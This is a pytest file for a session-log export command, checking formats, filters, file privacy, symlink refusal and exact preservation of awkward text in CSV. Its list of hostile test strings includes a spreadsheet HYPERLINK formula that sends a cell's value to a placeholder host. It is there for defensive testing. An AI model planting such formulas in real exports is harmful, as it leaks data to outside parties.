"""export: the rows show --json gives, for every log in scope (archived ones included),
in every format, with the filters of search; private files written whole; --raw keeps
the module's own rows."""

import csv
import io
import json
import stat
import sys

import pytest

import sessionrows
from conftest import REPO
from test_cli import STAGING, UPLOAD, home, kind_of, logs, run  # noqa: F401 (home: a fixture)

sys.path.insert(0, str(REPO / "examples"))
from make_sessions import Claude, Codex  # noqa: E402

COLUMNS = ["path", "agent", "session_id", "session", "row", "role", "kind", "subagent", "sidechain", "rewound",
           "tool", "timestamp", "text", "archived"]


def exported(home, tmp_path, fmt="jsonl", *args):
    """The rows an export writes, as show --json's objects."""
    if fmt == "jsonl":
        return json_lines(run(home, "export", *args, check=0)[1])
    target = tmp_path / ("rows." + fmt)
    run(home, "export", "--format", fmt, "-o", str(target), *args, check=0)
    if fmt == "parquet":
        return pytest.importorskip("pyarrow.parquet").read_table(target).to_pylist()
    with open(target, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    assert table[0] == COLUMNS
    words = {"true": True, "false": False}
    return [dict(r, row=int(r["row"]), sidechain=words[r["sidechain"]],
                 rewound=words[r["rewound"]], archived=words[r["archived"]],
                 subagent=r["subagent"] or None, tool=r["tool"] or None)
            for r in (dict(zip(COLUMNS, values)) for values in table[1:])]


def json_lines(out):
    """One object per line (lines end at line feeds only: a text may hold U+2028)."""
    return [json.loads(line) for line in out.split("\n") if line]


def shown(home, path):
    return json_lines(run(home, "show", str(path), "--json", check=0)[1])


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_holds_what_show_and_stats_give(home, tmp_path, fmt):
    rows = exported(home, tmp_path, fmt)
    for path in logs(home):
        assert [r for r in rows if r["path"] == str(path)] == shown(home, path), path
    assert [list(r) for r in rows[:1]] == [COLUMNS]
    stats = json.loads(run(home, "stats", "--json", check=0)[1])["agents"]
    for agent in ("claude", "codex"):
        roles = {}
        for r in rows:
            if r["agent"] == agent:
                roles[r["role"]] = roles.get(r["role"], 0) + 1
        assert (sum(roles.values()), roles) == (stats[agent]["rows"], stats[agent]["roles"])
    # a Codex message is one row (its log has it twice); Claude's tool results are the tool's
    assert sum("Fix the env file and restart only the api service." in r["text"] for r in rows) == 1
    results = [r for r in rows if r["kind"] == "tool_result"]
    assert {r["agent"] for r in results} == {"claude", "codex"} and {r["role"] for r in results} == {"tool"}
    assert not any(r["role"].startswith("__") for r in rows)
    if fmt == "jsonl":      # the same bytes as show --json, line for line
        _, out, _ = run(home, "export", check=0)
        upload = next(p for p in logs(home) if p.name == UPLOAD + ".jsonl")
        assert [line for line in out.splitlines() if line.startswith('{"path":%s,' % json.dumps(str(upload)))] == \
            run(home, "show", str(upload), "--json", check=0)[1].splitlines()


FILTERS = [
    (["--agent", "codex"], lambda r: r["agent"] == "codex"),
    (["--role", "user"], lambda r: r["role"] == "user" and not r["sidechain"]),
    (["--role", "TOOL"], lambda r: r["role"] == "tool"),
    (["--project", "UPLOADER"], lambda r: "-src-uploader/" in r["path"]),
    (["--since", "2026-11-06"], lambda r: r["timestamp"] >= "2026-11-06"),
    (["--until", "2026-11-05"], lambda r: "" < r["timestamp"] < "2026-11-06"),
    (["--kind", "tool_call,tool_result"], lambda r: r["kind"] in ("tool_call", "tool_result")),
    (["--role", "user", "--kind", "said", "--kind", "context", "--agent", "claude"],
     lambda r: r["role"] == "user" and not r["sidechain"] and r["kind"] in ("said", "context")
     and r["agent"] == "claude"),
]


@pytest.mark.parametrize("args, passes", FILTERS, ids=lambda a: " ".join(a) if isinstance(a, list) else "")
def test_filters_pick_the_rows_search_would(home, tmp_path, args, passes):
    every = exported(home, tmp_path)
    picked = exported(home, tmp_path, "jsonl", *args)
    assert picked and picked == [r for r in every if passes(r)] and len(picked) < len(every)


def test_bad_filters_are_refused(home):
    for args, says in [(["--kind", "said,nonsense"], "not a kind"), (["--raw", "--role", "user"], "--agent only"),
                       (["--since", "2026-11-06", "--until", "2026-11-05"], "empty"),
                       (["--format", "parquet"], "-o FILE"), (["--format", "html"], "-o FOLDER")]:
        code, out, err = run(home, "export", *args)
        assert (code, out) == (2, "") and says in err and err.count("\n") == 1, args


def test_a_log_gone_from_its_place_is_exported_from_the_archive(home, tmp_path):
    codex_log = next(p for p in logs(home) if STAGING in p.name)
    before = shown(home, codex_log)
    run(home, "index", check=0)
    codex_log.unlink()
    rows = [r for r in exported(home, tmp_path, "csv") if r["path"] == str(codex_log)]
    assert rows == [dict(r, archived=True) for r in before] == shown(home, codex_log)
    assert [r["path"] for r in exported(home, tmp_path, "jsonl", "--agent", "codex")] == [str(codex_log)] * len(rows)
    pages = tmp_path / "pages"
    _, _, err = run(home, "export", "--format", "markdown", "-o", str(pages), "--agent", "codex", check=0)
    assert "wrote 1 page" in err and "restart only the api service" in (pages / (STAGING + ".md")).read_text()


def test_pages_take_the_filters(home, tmp_path):
    pages = tmp_path / "pages"
    run(home, "export", "--format", "markdown", "-o", str(pages), "--role", "user", "--kind", "said",
        "--project", "uploader", check=0)
    assert sorted(p.name for p in pages.iterdir()) == [UPLOAD + ".md", "index.md"]
    page = (pages / (UPLOAD + ".md")).read_text()
    assert "Can you find out why it is flaky?" in page and "tool call" not in page and "### " in page
    assert "assistant ·" not in page


def test_export_files_are_private_whole_and_never_through_a_link(home, tmp_path):
    target = tmp_path / "rows.jsonl"
    target.write_text("earlier")
    target.chmod(0o644)
    run(home, "export", "-o", str(target), check=0)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600 and target.read_text().startswith('{"path":')
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(elsewhere)
    code, _, err = run(home, "export", "--format", "csv", "-o", str(link))
    assert code == 2 and "is a link" in err and elsewhere.read_text() == "keep me" and link.is_symlink()
    for fmt in ("csv", "parquet"):
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        out = tmp_path / ("rows." + fmt)
        run(home, "export", "--format", fmt, "-o", str(out), check=0)
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_a_failed_export_leaves_the_earlier_file(home, tmp_path, monkeypatch):
    from sessionrows import cli, export
    monkeypatch.setenv("HOME", str(home))
    target = tmp_path / "rows.jsonl"
    target.write_text("earlier")

    def failing(sources, out, fmt, **kw):
        out.write("half an export")
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(export, "export", failing)
    assert cli.main(["export", "-o", str(target)]) == 2
    assert target.read_text() == "earlier" and sorted(p.name for p in tmp_path.iterdir()) == ["home", "rows.jsonl"]


def test_small_batches_give_the_same_export(home, tmp_path, monkeypatch, capsys):
    """Many batches read ahead on the helper thread, Parquet row groups cut inside a log."""
    pq = pytest.importorskip("pyarrow.parquet")
    from sessionrows import cli, export
    monkeypatch.setenv("HOME", str(home))
    whole = exported(home, tmp_path)
    monkeypatch.setattr(export, "BATCH_BYTES", 1)
    monkeypatch.setattr(export, "PARQUET_BATCH_ROWS", 3)
    monkeypatch.setattr(export, "PARQUET_BATCH_CHARS", 200)
    target = tmp_path / "small.parquet"
    assert cli.main(["export", "--format", "parquet", "-o", str(target)]) == 0
    assert pq.read_table(target).to_pylist() == whole and pq.ParquetFile(target).num_row_groups > 10
    assert cli.main(["export"]) == 0
    assert json_lines(capsys.readouterr().out) == whole


HOSTILE = ['a "quoted", comma', "cr\ronly", "crlf\r\nline", "lf\nline", '=HYPERLINK("http://x.example/?"&A1)',
           "tab\tand \x1b[31m escape", "\u2028line separator\u2029", "trailing quote\"", '"', ",", "", " spaced ",
           "nul \x00 byte" if sys.version_info >= (3, 11) else "no nul", "\ufeffbom", "😀 \U0010ffff"]


def test_csv_keeps_hostile_texts_exactly(home, tmp_path):
    project = home / ".claude" / "projects" / "-home-eve"
    s = Claude("0badc0de-1111-4222-8333-944455556666", "/home/eve", 86400)
    for i, t in enumerate(HOSTILE):
        s.user("said: " + t, seconds=i + 1)
    s.write(project / "0badc0de-1111-4222-8333-944455556666.jsonl")
    c = Codex("0badc0de-2222-4222-8333-944455556666", "/tmp", 86400)
    c.meta()
    for t in HOSTILE:
        c.message("user", "said: " + t)
    c.write(home / ".codex" / "sessions" / "rollout-2026-01-02T00-00-00-0badc0de-2222-4222-8333-944455556666.jsonl")
    texts = sorted(r["text"] for r in exported(home, tmp_path, "jsonl") if r["text"].startswith("said: "))
    assert texts == sorted(2 * ["said: " + t for t in HOSTILE])
    got = exported(home, tmp_path, "csv")
    assert sorted(r["text"] for r in got if r["text"].startswith("said: ")) == texts
    assert got == exported(home, tmp_path, "jsonl")
    raw = (tmp_path / "rows.csv").read_bytes()
    assert raw.count(b"\r\n") == len(got) + 1 + sum(r["text"].count("\r\n") for r in got)


@pytest.mark.parametrize("tools", [False, True])
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_raw_gives_the_modules_rows(home, tmp_path, fmt, tools):
    flag = ["--include-tools"] if tools else []
    fields = ["path", "agent", "role", "text", "timestamp", "source"]
    if fmt == "parquet":
        pq = pytest.importorskip("pyarrow.parquet")
        target = tmp_path / "rows.parquet"
        run(home, "export", "--raw", "--format", "parquet", "-o", str(target), *flag, check=0)
        table = pq.read_table(target)
        assert table.column_names == fields and stat.S_IMODE(target.stat().st_mode) == 0o600
        expected = [dict(zip(fields, (str(p), kind_of(p)) + row)) for p in logs(home)
                    for row in pa_rows(p, tools)]
        assert sorted(map(tuple, map(dict.values, table.to_pylist()))) == sorted(map(tuple, map(dict.values, expected)))
        return
    expected = [(str(p), kind_of(p)) + row for p in logs(home)
                for row in sessionrows.extract_many([(kind_of(p), str(p))], tools)[0]]
    _, out, _ = run(home, "export", "--raw", "--format", fmt, *flag, check=0)
    if fmt == "jsonl":
        got = [tuple(json.loads(line)[k] for k in fields) for line in out.splitlines()]
    else:
        table = list(csv.reader(io.StringIO(out, newline="")))
        assert table[0] == fields
        got = [tuple(r) for r in table[1:]]
    assert sorted(got) == sorted(expected) and any(r[2] in ("__title__", "__meta__") for r in got)
    codex = [r for r in got if r[1] == "codex"]
    assert sum("restart only the api service" in r[3] for r in codex) == 2     # the module's two copies
    _, only, _ = run(home, "export", "--raw", "--agent", "codex", *flag, check=0)
    assert len(only.splitlines()) == len(codex)


def pa_rows(path, tools):
    import pyarrow as pa
    table = pa.table(sessionrows.read_arrow([(kind_of(path), str(path))], tools))
    return [tuple(r[k] for k in ("role", "text", "timestamp", "source")) for r in table.to_pylist()]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_rows_taken_back_by_a_rewind_are_exported_marked(home, tmp_path, fmt):
    from test_rules_copilot import START, ev, said, user
    log = home / ".copilot" / "session-state" / "f3799dbd-0001" / "events.jsonl"
    log.parent.mkdir(parents=True)
    lines = [START, user("first", id="u1"), user("second", id="u2"), said("answer two", id="m2"),
             ev("session.snapshot_rewind", {"eventsRemoved": 2}, id="w"), user("third", id="u3")]
    log.write_text("".join(json.dumps(x) + "\n" for x in lines))
    rows = [r for r in exported(home, tmp_path, fmt) if r["path"] == str(log)]
    assert rows == shown(home, log)
    assert [(r["text"], r["rewound"]) for r in rows if r["role"] != "tool"] == [
        ("first", False), ("second", True), ("answer two", True), ("third", False)]
